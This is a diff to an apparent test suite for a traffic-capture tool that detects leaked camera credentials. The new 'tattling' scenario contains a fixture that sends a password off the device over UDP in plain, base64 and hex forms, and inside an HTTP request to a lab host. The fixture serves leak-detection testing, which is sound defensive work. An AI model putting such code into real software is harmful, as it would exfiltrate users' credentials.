@@ -370,7 +370,7 @@ def credentials(scene, stream, status, *words, environment=None, attempts=1):
 
 
 def secretless(scene):
-    """The secret is in no file but the capture, and in nothing that was said."""
+    """The secret is in no file but the captures, and in nothing that was said."""
     forms = {PASSWORD, PASSWORD.encode().hex(), base64.b64encode(PASSWORD.encode()).decode(),
              base64.b64encode(("admin:" + PASSWORD).encode()).decode(), "pa%2Fss%3Aw0rd%2B7",
              "".join(f"%{octet:02X}" for octet in PASSWORD.encode())}
@@ -378,14 +378,14 @@ def secretless(scene):
     for top, _, names in os.walk(scene.folder):
         for name in names:
             path = os.path.join(top, name)
-            if name in ("secret", "log") or name.startswith("traffic"):
+            if name in ("secret", "log") or name.endswith(".pcapng"):  # what was on the wire
                 continue
             with open(path, "rb") as file:
                 octets = file.read().lower()
             found += [path for form in forms if form.lower().encode() in octets]
     said = scene.said + scene.complaint
     found += [form for form in forms if form.lower() in said.lower()]
-    scene.tap.ok("the secret is in nothing but the capture", not found, found)
+    scene.tap.ok("the secret is in nothing but captures", not found, found)
 
 
 def right_variable(scene):
@@ -418,6 +418,37 @@ def echoing(scene):
     device.server("echoes", os.path.join(scene.folder, "log"))
     scene.test(scene.profile(device, stream="credentials = env:CAMERA_SECRET", phases=(0, 4, 0)),
                env={**os.environ, "CAMERA_SECRET": "admin:" + PASSWORD}).expect(3)
+    secretless(scene)
+
+
+def tattling(scene):
+    """The camera sends the viewer's password elsewhere, in several spellings."""
+    device = scene.device()
+    device.camera(scene.camera, "--user", "admin", "--password", PASSWORD)
+    device.start(sys.executable, "-c", f"""
+import base64, socket, time
+tattler = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+secret = {PASSWORD!r}.encode()
+for number in range(12):
+    for port, octets in enumerate((b"password=" + secret, base64.b64encode(b"admin:" + secret),
+                                   secret.hex().encode())):
+        tattler.sendto(octets, ({device.lab!r}, 9000 + port))
+    request = b"GET /?p=" + secret + b" HTTP/1.1\\r\\nHost: " + secret[:4] + b".example\\r\\n\\r\\n"
+    tattler.sendto(request, ({device.lab!r}, 9010))
+    time.sleep(0.3)
+""")
+    scene.test(scene.profile(device, stream="credentials = env:CAMERA_SECRET"),
+               env={**os.environ, "CAMERA_SECRET": "admin:" + PASSWORD}).expect(1)
+    scene.tap.ok("finds that it leaks", any(
+        PASSWORD.encode() in open(path, "rb").read() for path in
+        glob.glob(os.path.join(scene.cases()[0], "evidence", "*"))), scene.record["findings"])
+    scene.tap.ok("shows no octet of it", not any(
+        word in bytes.fromhex(finding["excerpt"]) for finding in scene.record["findings"]
+        for word in (PASSWORD.encode(), base64.b64encode(b"admin:" + PASSWORD.encode()),
+                     PASSWORD.encode().hex().encode())))
+    again = subprocess.run([scene.lenscap, "report", scene.cases()[0], "-o",
+                            os.path.join(scene.folder, "again")], capture_output=True, text=True)
+    scene.tap.ok("the record can be rendered again", again.returncode == 0, again.stderr)
     secretless(scene)
 
 
@@ -792,7 +823,7 @@ def alive(pid):
 
 SCENARIOS = [demo, absent, refusing, hanging, hanging_long, interrupted, terminated, out_of_space, killed, over_tcp,
              over_udp, two_devices, one_interface, right_variable, right_file, wrong_password,
-             no_password, missing_variable, echoing, where_secrets_go, closing, garbage,
+             no_password, missing_variable, echoing, tattling, where_secrets_go, closing, garbage,
              web_server, unusable, not_permitted, remarks, mirrored, rotated, progress,
              worker_lost, vanishing]
 
